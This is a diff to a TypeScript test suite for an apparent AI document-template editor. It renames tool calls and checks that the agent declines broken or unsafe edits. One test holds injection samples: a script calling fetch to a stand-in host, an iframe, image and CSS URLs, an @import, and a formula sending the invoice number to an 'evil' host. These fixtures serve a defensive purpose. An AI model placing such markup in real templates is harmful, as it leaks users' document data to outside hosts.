@@ -13,6 +13,7 @@ import { libraryDraft, publishingFaults, scriptedModel, scriptedTurn } from './t
 import {
   small,
   about,
+  aboutAll,
   replace,
   command,
   finish,
@@ -64,7 +65,7 @@ describe('a turn of the author', () => {
 
   it('gives an edit back that does not match, with how often the passage stands there', async () => {
     const { result } = await turn([
-      calls(about()),
+      calls(aboutAll),
       calls(replace('Invoise', 'Bill')),
       calls(replace('<p', '<p class="x"')),
       calls(replace('Thank you.', 'Thanks.')),
@@ -81,7 +82,7 @@ describe('a turn of the author', () => {
       outcome: 'changed',
       summary: 'Done.',
       steps: [
-        'This is about the whole document',
+        /^This is about the title .*, the paragraph .*, the table .*, the paragraph/,
         // A passage that was written wrongly is between the model and its tool.
         'Changed “Thank you.” to “Thanks.”',
       ],
@@ -90,7 +91,7 @@ describe('a turn of the author', () => {
 
   it('takes no edit that tears a section in a table, leaves an element open, or writes another template language', async () => {
     const { result } = await turn([
-      calls(about()),
+      calls(aboutAll),
       calls(replace('{{#items}}\n    <tr><td>{{what}}', '<tr><td>{{#items}}{{what}}')),
       calls(replace('<p>Thank you.</p>', '<div>Thank you.')),
       calls(replace('{{#items}}', '{{#each items}}')),
@@ -107,7 +108,7 @@ describe('a turn of the author', () => {
       outcome: 'declined',
       summary: 'It cannot be done.',
       steps: [
-        'This is about the whole document',
+        /^This is about the title .*, the paragraph .*, the table .*, the paragraph/,
         /✗ .*stand in different elements/s,
         /✗ The HTML would not hold together: .*<div>/s,
         /✗ /,
@@ -203,7 +204,7 @@ describe('a turn of the author', () => {
   it('takes no markup that reaches out, and no script', async () => {
     const { result } = await turn(
       [
-        calls(about()),
+        calls(aboutAll),
         ...[
           '<script>fetch("https://e.example")</script>',
           '<iframe src="https://e.example"></iframe>',
@@ -228,7 +229,7 @@ describe('a turn of the author', () => {
     const set = (name: string, input: object) => calls({ name, input: { ...input } })
     const { result } = await turn(
       [
-        calls(about()),
+        calls(aboutAll),
         set('replace_text', {
           file: 'template.html',
           old: 'Thank you.',
@@ -239,8 +240,8 @@ describe('a turn of the author', () => {
         set('rewrite_element', { element: 1, html: `<h1>Invoice {{number}}<img src="${evil}" alt=""></h1>` }),
         set('set_css', { rules: [{ selector: 'h1', set: { background: `url(${evil})` } }] }),
         set('replace_text', { file: 'style.css', old: 'h1 {', new: `@import url(${evil}); h1 {` }),
-        set('set_samples', { file: 'sample.json', path: ['number'], value: evil }),
-        set('declare_fields', { fields: [{ path: 'logo', formula: `concat("${evil}?d=", number)` }] }),
+        set('set_up', { samples: [{ path: ['number'], value: evil }] }),
+        set('set_up', { fields: [{ path: 'logo', formula: `concat("${evil}?d=", number)` }] }),
         set('insert_html', { place: 'inside', html: '<img src="https://acme.org/seal.png" alt="Seal">' }),
         calls(finish()),
       ],
@@ -376,19 +377,24 @@ describe('a turn of the author', () => {
     ]
     const { result } = await turn(
       [
-        calls({ name: 'declare_fields', input: { fields } }),
+        calls({ name: 'set_up', input: { fields } }),
         calls({
           name: 'write_document',
           input: { html: html.replace('<p>{{date}}</p>\n', ''), css: 'h1 { font-size: 16pt }' },
         }),
         calls({
-          name: 'set_page',
-          input: { size: 'A5', footer: { right: '{page} / {pages}' }, fileName: 'receipt-{{number}}.pdf' },
+          name: 'set_up',
+          input: {
+            settings: {
+              page: { size: 'A5', footer: { right: '{page} / {pages}' } },
+              fileName: 'receipt-{{number}}.pdf',
+            },
+          },
         }),
         calls({ name: 'look', input: {} }),
         calls(finish()),
         calls({ name: 'write_document', input: { html, css: 'h1 { font-size: 16pt }' } }),
-        calls({ name: 'set_page', input: { footer: { left: 'Receipt' } } }),
+        calls({ name: 'set_up', input: { settings: { page: { footer: { left: 'Receipt' } } } } }),
         calls(command('rename_field', { field: 'number', name: 'total' })),
         calls(finish('Made a receipt.')),
       ],
@@ -418,7 +424,7 @@ describe('a turn of the author', () => {
     const { result } = await turn(
       [
         calls({
-          name: 'declare_fields',
+          name: 'set_up',
           input: {
             fields: [
               { path: 'name', type: 'text', label: 'Name' },
